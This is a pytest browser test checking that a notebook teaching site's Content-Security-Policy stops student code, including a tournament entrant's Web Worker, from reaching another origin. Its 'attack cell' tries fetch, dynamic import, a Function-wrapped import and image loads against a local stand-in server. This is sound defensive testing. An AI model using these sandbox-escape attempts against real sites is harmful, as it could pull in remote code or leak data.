"""The site's Content-Security-Policy in headless Chromium (issue 37): a student's code anywhere in the site (the
page, the kernel, a tournament entrant's Web Worker) cannot reach another host. A second server on another port
(another origin) counts the requests that reach it: none may."""

import http.server
import json
import threading

import pytest

from bench.site_browser import ADD_CELL_JS, new_context, run_cell, wait_for_kernel

pytestmark = pytest.mark.browser


class Counter(http.server.BaseHTTPRequestHandler):
    """Another host: answers everything, a JavaScript module allowed to any origin, and notes the path."""

    reached = []

    def do_GET(self):
        self.reached.append(self.path)
        body = b"export default 1;"
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def attack_cell(other):
    """The kernel fetches and imports from ``other``; an entrant's worker imports, fetches and loads an image."""
    return f'''
import json
import games
from js import fetch
from pyodide.code import run_js

tried = {{}}
try:
    tried["kernel fetch"] = (await fetch("{other}/kernel-fetch")).status
except Exception as error:
    tried["kernel fetch"] = "refused " + type(error).__name__
try:
    await run_js("import('{other}/kernel-import.mjs')")
    tried["kernel import"] = "done"
except Exception as error:
    tried["kernel import"] = "refused " + type(error).__name__


def reaches_out(env):
    import js
    js.eval("import('{other}/worker-import.mjs').catch(() => 0)")
    js.eval("new Function(\\"return import('{other}/worker-function.mjs')\\")().catch(() => 0)")
    js.eval("try {{ new Image().src = '{other}/worker-image' }} catch (error) {{}}")
    return env.legal_actions()[0]


standings = games.tournament("tictactoe", {{"out": reaches_out, "random": games.agents.random_agent}},
                             games_per_pair=2, progress=False)
tried["entrant games"] = standings.rows[0]["games"]
print(json.dumps(tried))
'''


def test_nothing_in_the_site_reaches_another_host(browser, site_url):
    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counter)
    threading.Thread(target=other.serve_forever, daemon=True).start()
    address = f"http://127.0.0.1:{other.server_address[1]}"
    context = new_context(browser)
    try:
        page = context.new_page()
        page.goto(f"{site_url}notebooks/index.html?path=en/00_welcome.ipynb")
        wait_for_kernel(page)
        page.evaluate(f"fetch('{address}/page-fetch').catch(() => 0)")
        page.evaluate(f"import('{address}/page-import.mjs').catch(() => 0)")
        result = run_cell(page, page.evaluate(ADD_CELL_JS, attack_cell(address)), timeout=300)
        page.wait_for_timeout(1000)  # a request on its way has arrived by now
        controlled = page.evaluate("!!navigator.serviceWorker.controller")
    finally:
        context.close()
        other.shutdown()
        other.server_close()
    text = "".join(output.get("text", "") for output in result["outputs"])
    assert not result["timedOut"] and text.strip(), result["outputs"]
    tried = json.loads(text.strip().splitlines()[-1])
    assert tried["entrant games"] == 2  # the entrant played: its attempts ran
    assert Counter.reached == [], f"requests reached another host: {Counter.reached} ({tried})"
    assert tried["kernel fetch"].startswith("refused") and tried["kernel import"].startswith("refused")
    assert controlled  # the service worker, which gives the kernel's worker its policy, still runs the site
